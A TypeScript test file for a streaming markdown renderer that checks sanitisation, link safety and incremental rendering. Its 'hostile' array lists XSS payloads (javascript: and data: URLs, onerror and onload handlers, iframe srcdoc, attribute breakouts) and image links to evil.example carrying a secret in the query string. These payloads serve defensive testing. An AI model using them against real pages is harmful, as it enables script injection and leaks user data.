import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Blocks, lex } from '../src/markdown/blocks.ts';
import { mend } from '../src/markdown/mend.ts';
import { plainText } from '../src/markdown/plainText.ts';
import { safeLink } from '../src/markdown/links.ts';
import { drawnTokens } from './drawn.ts';

const allowedElements = new Set([
    'p', 'h3', 'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'blockquote', 'figure', 'figcaption', 'pre', 'code',
    'strong', 'em', 's', 'a', 'br', 'hr', 'span', 'div', 'button', 'svg', 'rect', 'path',
]);

const hostile: readonly string[] = [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x]( javascript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](blob:https://a/b)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '[x](/relative)',
    '[x](#id)',
    '<javascript:alert(1)>',
    '<data:text/html,hi>',
    '[a]\n\n[a]: javascript:alert(1)',
    '[a][b]\n\n[b]: data:text/html,hi "title"',
    '![a](https://evil.example/p.png?q=secret)',
    '![a][p]\n\n[p]: https://evil.example/p.png?q=secret',
    '![a](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '[![a](https://evil.example/p.png)](https://b.example)',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'a <img src=x onerror=alert(1)> b',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>*{background:url(https://evil.example)}</style>',
    '<!-- --><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<div\n\nonclick=alert(1)>',
    '```html\n<script>alert(1)</script>\n```',
    '```"><script>alert(1)</script>\nx\n```',
    '`<script>alert(1)</script>`',
    '| <script>alert(1)</script> | [x](javascript:a) |\n|--|--|\n| <img src=x onerror=a> | ![x](https://evil.example/p) |',
    '- [ ] <b onclick=x>q</b>\n- [x](javascript:1)',
    '# <img src=x onerror=alert(1)>',
    '> <script>alert(1)</script>',
    '[x](https://ok.example/"onmouseover="alert(1))',
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    '[<img src=x onerror=alert(1)>](https://ok.example)',
    '\\<script>alert(1)\\</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#x3c;img src=x onerror=alert(1)&#x3e;',
    'https://ok.example/<script>',
    'www.evil.example"onclick="x',
    'mail@example.com<script>',
    '[x](mailto:a@b.c?subject=<script>)',
    '\u202e<script>',
];

/** Fails where the drawn text holds an element, attribute or address outside the allow-list. */
function assertHarmless(html: string, source: string): void {
    const tags = html.matchAll(/<\/?([a-zA-Z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g);
    for (const [whole, name = '', attributes = ''] of tags) {
        assert.ok(allowedElements.has(name), `${whole} in ${source}`);
        assert.doesNotMatch(attributes, /\s(?:on\w+|style|src|srcdoc|srcset|action|formaction|id)\s*=/i, `${whole} in ${source}`);
        const href = /\shref="([^"]*)"/.exec(attributes)?.[1];
        if (href !== undefined) {
            assert.match(href, /^(?:https?:\/\/|mailto:|tel:)/, `${whole} in ${source}`);
            assert.match(attributes, /\srel="noopener noreferrer nofollow"/);
            assert.match(attributes, /\starget="_blank"/);
        }
    }
}

for (const source of hostile) {
    test(`nothing harmful is drawn for ${JSON.stringify(source)}`, () => {
        assertHarmless(drawnTokens(lex(source).map(({ token }) => token)), source);
    });
}

test('nothing harmful is drawn while hostile text arrives, cut anywhere', () => {
    for (const source of hostile) {
        const blocks = new Blocks();
        for (let end = 0; end <= source.length; end += 1) {
            const part = source.slice(0, end);
            assertHarmless(drawnTokens(blocks.update(part, false).map(({ token }) => token)), part);
        }
    }
});

const document = [
    '# Title', 'A paragraph with **bold**, *italic*, `code` and a [link](https://example.com).', '- one\n- two\n  - inner', 'Text\n- list',
    '| a | b |\n|--|--|\n| 1 | 2 |', '```js\nconst a = 1;\n\n- no list\n```', '> quote\n> more', '1. first\n2. second', 'See [ref] below.',
    '[ref]: https://example.com/ref', '<div>\nhtml\n\n</div>', 'The end 🙂.',
].join('\n\n');

test('an answer cut anywhere while it arrives is drawn in the end as if it had come at once', () => {
    const whole = drawnTokens(lex(document).map(({ token }) => token));
    for (let cut = 1; cut < document.length; cut += 1) {
        const blocks = new Blocks();
        blocks.update(document.slice(0, cut), false);
        assert.equal(drawnTokens(blocks.update(document, true).map(({ token }) => token)), whole, `cut at ${cut}`);
    }
});

test('growing by one character at a time ends in the same blocks as reading it at once', () => {
    const growing = new Blocks();
    let last = growing.update('', false);
    for (let end = 1; end <= document.length; end += 1) {
        last = growing.update(document.slice(0, end), false);
    }
    const once = lex(document).filter(({ token }) => token.type !== 'space' && token.type !== 'def');
    assert.deepEqual(last.map(({ raw }) => raw.trimEnd()), once.map(({ raw }) => raw.trimEnd()));
});

test('a finished block stays the same object, so that it is not drawn again', () => {
    const blocks = new Blocks();
    const text = 'One.\n\nTwo.\n\nThree.\n\nFour.';
    const [first, second] = blocks.update(text, false);
    for (let end = 0; end < 200; end += 1) {
        const now = blocks.update(`${text}${' more'.repeat(end)}`, false);
        assert.equal(now[0], first);
        assert.equal(now[1], second);
    }
    assert.equal(blocks.update(`${text}${' more'.repeat(200)}`, true)[0], first);
});

test('an image is a link that names the host, never a picture', () => {
    const html = drawnTokens(lex('![map](https://maps.example/m.png)').map(({ token }) => token));
    assert.match(html, /<a class="picture" href="https:\/\/maps\.example\/m\.png"[^>]*>map <span class="host">maps\.example<\/span><\/a>/);
});

test('HTML is shown as the text that it is', () => {
    assert.match(drawnTokens(lex('a <b>c</b>').map(({ token }) => token)), /a &lt;b&gt;c&lt;\/b&gt;/);
});

test('very deep nesting and very long lines end in text, not in an exception', () => {
    for (const source of ['>'.repeat(5000), '- '.repeat(3000), '*'.repeat(20_000), '['.repeat(5000), '![]('.repeat(3000), `${'| a '.repeat(2000)}|`]) {
        assertHarmless(drawnTokens(new Blocks().update(source, true).map(({ token }) => token)), source.slice(0, 20));
    }
});

test('half a marker at the end is mended, and a finished text is left as it is', () => {
    assert.equal(mend('a **bo'), 'a **bo**');
    assert.equal(mend('a **'), 'a ');
    assert.equal(mend('a `co'), 'a `co`');
    assert.equal(mend('see [the terms](https://exa'), 'see the terms');
    assert.equal(mend('see [the te'), 'see the te');
    assert.equal(mend('a paragraph\n-'), 'a paragraph\n');
    assert.equal(mend('```\na **bo'), '```\na **bo');
    for (const whole of ['a **b** c', 'a `b` c', '[a](https://b.c) d', '- a\n- b', 'a\n\n---', 'x [ ] y']) {
        assert.equal(mend(whole), whole);
    }
});

test('only addresses that people follow are links', () => {
    assert.equal(safeLink('https://example.com/a b')?.href, 'https://example.com/a%20b');
    assert.equal(safeLink('mailto:a@b.c')?.destination, 'a@b.c');
    assert.equal(safeLink('tel:+431234')?.href, 'tel:+431234');
    for (const address of ['javascript:alert(1)', ' javascript:alert(1)', 'data:,x', '/a', '//a.b', '', 'ftp://a.b', 'https://', 'about:blank']) {
        assert.equal(safeLink(address), undefined, address);
    }
});

test('what is read aloud has no markers', () => {
    assert.equal(plainText('## Hi\n\n- **a** &amp; `b`\n- c\n\n```js\nx\n```', 'Code.'), 'Hi\na & b\nc\nCode.');
});
